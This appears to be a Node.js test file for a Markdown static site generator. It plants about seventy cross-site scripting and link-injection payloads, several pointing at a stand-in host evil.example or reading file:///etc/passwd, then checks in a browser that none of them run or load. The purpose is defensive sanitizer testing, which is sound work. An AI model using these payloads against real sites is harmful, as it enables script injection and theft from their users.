// Hostile Markdown: whatever an author pastes, nothing of it runs, loads or leads to a script in a real browser.
// The pages are shown without their content policy, so that the cleaning alone has to hold.

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { BIN, REPO, browse } from './lib.mjs';

/** What is commonly tried against Markdown and HTML cleaners; `hit()` would be a script that ran. */
const PAYLOADS = [
  '<script>hit()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=hit()>',
  '<img src="x" onerror="hit()" />',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example/"><input name=a><button>go</button></form>',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<input autofocus onfocus=hit()>',
  '<a href="javascript:hit()">x</a>',
  '<a href="jav&#x09;ascript:hit()">x</a>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<!--><script>hit()</script>-->',
  '<!-- --!><script>hit()</script>',
  '<![CDATA[<script>hit()</script>]]>',
  '<?xml-stylesheet href="javascript:hit()"?>',
  '<x/onclick=hit()>click',
  '<<script>hit();//<</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '[x](javascript:hit())',
  '[x](JaVaScRiPt:hit())',
  '[x](&#106;avascript:hit())',
  '[x](java&Tab;script:hit())',
  '[x](javascript&colon;hit())',
  '[x](<javascript:hit()>)',
  '[x](  javascript:hit())',
  '[x](\\javascript:hit())',
  '[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  '[x](vbscript:hit())',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/)',
  '[x](\\\\evil.example/)',
  '[x](/\\evil.example/)',
  '[x]( "onmouseover=hit()")',
  '[x](/about.html "a\\"onmouseover=\\"hit()")',
  '[x](https://example.org/"onmouseover="hit())',
  "[x](https://example.org/'onmouseover='hit())",
  '[x][ref]\n\n[ref]: javascript:hit()',
  '<javascript:hit()>',
  '<https://example.org/"onmouseover=hit()>',
  '![x](https://evil.example/x.png)',
  '![x](javascript:hit())',
  '![x"onerror="hit()](/x.png)',
  '![x](/x.png"onerror="hit())',
  '# x {onclick=hit() #y .z style=color:red}',
  '```html" onclick="hit()\n<script>hit()</script>\n```',
  '`<script>hit()</script>`',
  '| a | b |\n| --- | --- |\n| <script>hit()</script> | <img src=x onerror=hit()> |',
  '> <script>hit()</script>',
  '- <script>hit()</script>',
  '**<script>hit()</script>**',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '\u2056<script>hit()</script>',
  '<scr\u0000ipt>hit()</scr\u0000ipt>',
];

let browser;
let folder;
let log;
before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'mingbai-payloads-'));
  for (const name of ['data/regions', 'content/pages', 'content/notices', 'themes']) mkdirSync(join(folder, name), { recursive: true });
  cpSync(join(REPO, 'themes'), join(folder, 'themes'), { recursive: true });
  cpSync(join(REPO, 'data/regions'), join(folder, 'data/regions'), { recursive: true });
  writeFileSync(join(folder, 'data/site.yaml'), 'title: 试\nbase_url: https://example.org/\n');
  PAYLOADS.forEach((payload, i) => {
    writeFileSync(join(folder, `content/pages/p${i}.md`), `---\ntitle: 第${i}页\n---\n\n## 标题\n\n${payload}\n\n**末段**\n`);
    writeFileSync(join(folder, `content/notices/n${i}.md`),
      `---\ntitle: 第${i}件\nnumber: 未载明\nkind: 通知\nissuers: 未载明\nissued: 未载明\npublicity: 未载明\nregion: 全国\n---\n\n一、甲${payload}\n\n${payload}\n\n二、乙\n`);
  });
  const run = new Promise((resolve) => {
    execFile(BIN, ['build', folder, '--out', join(folder, 'public'), '--format', 'json'], { maxBuffer: 1 << 26 }, (error, stdout, stderr) => resolve({ code: error?.code ?? 0, stdout, stderr }));
  });
  [browser, log] = await Promise.all([browse(), run]);
});
after(async () => { await browser?.close(); rmSync(folder, { recursive: true, force: true }); });

test('hostile Markdown that would only be dropped is reported at its line, and links that lead nowhere stop the build', () => {
  const list = JSON.parse(log.stdout);
  const files = new Set(list.map((one) => one.file));
  assert.ok(files.has('content/pages/p0.md'), 'raw HTML is reported');
  assert.ok(files.has(`content/pages/p${PAYLOADS.indexOf('[x](javascript:hit())')}.md`), 'unsafe links are reported');
  const script = list.find((one) => one.file === 'content/pages/p0.md');
  assert.deepEqual([script.code, script.line, script.column], ['MB0401', 7, 1]);
  // MB0224: a heading in an official text begins a section of its own, in which 二、 comes too early.
  // MB0114: control characters are refused at their place. MB0116: there are more than are listed.
  // MB0406 and MB0407: a comment over several paragraphs, and one that does not end (`--!>` does not end one in Markdown).
  for (const one of list) assert.ok(['MB0114', 'MB0116', 'MB0401', 'MB0402', 'MB0406', 'MB0407', 'MB0502', 'MB0503', 'MB0224'].includes(one.code), `${one.code} in ${one.file}`);
});

test('nothing of it runs, loads or leads to a script', async () => {
  // Broken links are errors and stop a build; without the files that hold them the rest is built and shown.
  const broken = new Set(JSON.parse(log.stdout).filter((one) => one.severity === 'error').map((one) => one.file));
  for (const file of broken) rmSync(join(folder, file));
  await new Promise((resolve, reject) => execFile(BIN, ['build', folder, '--out', join(folder, 'public')], { maxBuffer: 1 << 26 }, (error, _, stderr) => (error ? reject(new Error(stderr)) : resolve())));
  const context = await browser.newContext();
  const page = await context.newPage();
  const hits = [];
  await page.exposeFunction('hit', () => hits.push('hit'));
  page.on('dialog', (dialog) => { hits.push('dialog'); dialog.dismiss(); });
  await page.route('**/*', (route) => { if (/evil\.example/.test(route.request().url())) hits.push(route.request().url()); return route.abort(); });
  let shown = 0;
  for (let i = 0; i < PAYLOADS.length; i += 1) {
    for (const [kind, path] of [['pages', `p${i}.html`], ['notices', `notices/n${i}.html`]]) {
      if (broken.has(`content/${kind}/${path.split('/').pop().replace('.html', '.md')}`)) continue;
      const html = readFileSync(join(folder, 'public', path), 'utf8').replace(/<meta[^>]*Content-Security-Policy[^>]*>/i, '');
      assert.ok(!/Content-Security-Policy/i.test(html), 'the policy is off');
      await page.setContent(html, { waitUntil: 'domcontentloaded' });
      const found = await page.evaluate(() => {
        const bad = [];
        for (const one of document.querySelectorAll('main *')) {
          if (/^(script|iframe|object|embed|base|meta|link|style|form|input|video|svg|math|textarea)$/i.test(one.localName)) bad.push(one.outerHTML);
          for (const attribute of one.attributes) {
            if (/^on/i.test(attribute.name) || attribute.name === 'style') bad.push(one.outerHTML);
            if (/^(href|src|action)$/.test(attribute.name) && !/^(https?:|mailto:|tel:|#|\.{0,2}\/?[\w-])/.test(attribute.value)) bad.push(one.outerHTML);
            if (/^(href|src)$/.test(attribute.name) && /^\s*(javascript|data|vbscript|file):|evil\.example/i.test(attribute.value)) bad.push(one.outerHTML);
          }
        }
        for (const link of document.querySelectorAll('main a')) link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        return bad;
      });
      assert.deepEqual(found, [], `${path}: ${PAYLOADS[i]}`);
      shown += 1;
    }
  }
  assert.deepEqual(hits, []);
  assert.ok(shown > PAYLOADS.length, `${shown} pages were shown`);
  await context.close();
});

test('ids and classes of our own survive', () => {
  const html = readFileSync(join(folder, 'public/notices/n0.html'), 'utf8');
  assert.match(html, /id=c1[ >]/);
  assert.match(html, /class="b b-clause han"/);
  assert.match(readFileSync(join(folder, 'public/p0.html'), 'utf8'), /id=s-[^ >]+[ >]/);
});
